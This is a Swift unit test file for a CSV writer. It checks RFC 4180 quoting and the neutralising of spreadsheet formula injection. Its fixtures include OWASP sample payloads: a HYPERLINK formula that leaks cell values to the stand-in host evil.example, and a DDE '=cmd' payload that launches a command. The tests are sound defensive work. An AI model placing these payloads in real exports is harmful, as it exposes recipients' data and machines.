import CourseTestSupport
import Reports
import Testing

@Suite struct CSVWriterTests {
    /// OWASP's CSV Injection sample payloads, plus cells that need RFC 4180 quoting.
    static let hyperlinkPayload = #"=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: Please click me!")"#
    static let commandPayload = #"=cmd|' /C calc'!A0"#
    static let trickyTexts = [
        hyperlinkPayload, commandPayload, #"=1+2";=1+2"#, "+1", "-2+3", "@SUM(A1:A9)", "\tindented", "\rreturn",
        "\nnewline first", "plain", "comma, inside", #"say "hi""#, "line one\r\nline two", "Zoë O'Brien", "李雷",
        "emoji 🐍", " leading space", "'already quoted", "trailing,",
    ]

    @Test func textRoundTripsThroughPythonsCSVParserWithFormulasNeutralised() throws {
        let sink = MemorySink()
        let writer = CSVWriter(sink: sink)
        try writer.writeHeader(["text", "count"])
        for (index, text) in Self.trickyTexts.enumerated() {
            try writer.writeRow([.text(text), .integer(index - 5)])
        }
        try writer.flush()

        let rows = try PythonCSV.parse(sink.bytes)
        #expect(rows.first == ["text", "count"])
        #expect(rows.count == Self.trickyTexts.count + 1)
        for (index, text) in Self.trickyTexts.enumerated() {
            let first = text.unicodeScalars.first.map { "=+-@\t\r\n".unicodeScalars.contains($0) } ?? false
            let expected = first ? "'" + text : text
            #expect(rows[index + 1] == [expected, String(index - 5)], "row for \(text.debugDescription)")
        }
    }

    @Test func formulaCellsAreQuotedAndPrefixedWhileNumbersStayBare() throws {
        let sink = MemorySink()
        let writer = CSVWriter(sink: sink)
        try writer.writeRow([.text(Self.commandPayload), .integer(-7), .number(0.75), .number(-1.5), .number(3), .empty])
        try writer.flush()
        #expect(sink.text == "\"'=cmd|' /C calc'!A0\",-7,0.75,-1.5,3,\r\n")
    }

    @Test func aNulAtTheStartIsNeutralisedToo() throws {
        let sink = MemorySink()
        let writer = CSVWriter(sink: sink)
        try writer.writeRow([.text("\u{0}=1+1")])
        try writer.flush()
        #expect(sink.bytes.prefix(2) == [UInt8(ascii: "\""), UInt8(ascii: "'")])
    }

    @Test func recordsEndWithCRLFAndTheBufferIsFlushedAsItFills() throws {
        let sink = MemorySink()
        let writer = CSVWriter(sink: sink, bufferSize: 256)
        for index in 0..<1000 { try writer.writeRow([.integer(index), .text("row")]) }
        // Before the final flush most rows have already reached the sink.
        #expect(sink.bytes.count > 5000)
        try writer.flush()
        let rows = try PythonCSV.parse(sink.bytes)
        #expect(rows.count == 1000)
        #expect(rows.last == ["999", "row"])
        #expect(sink.text.hasSuffix("999,row\r\n"))
        #expect(writer.rowsWritten == 1000)
    }
}
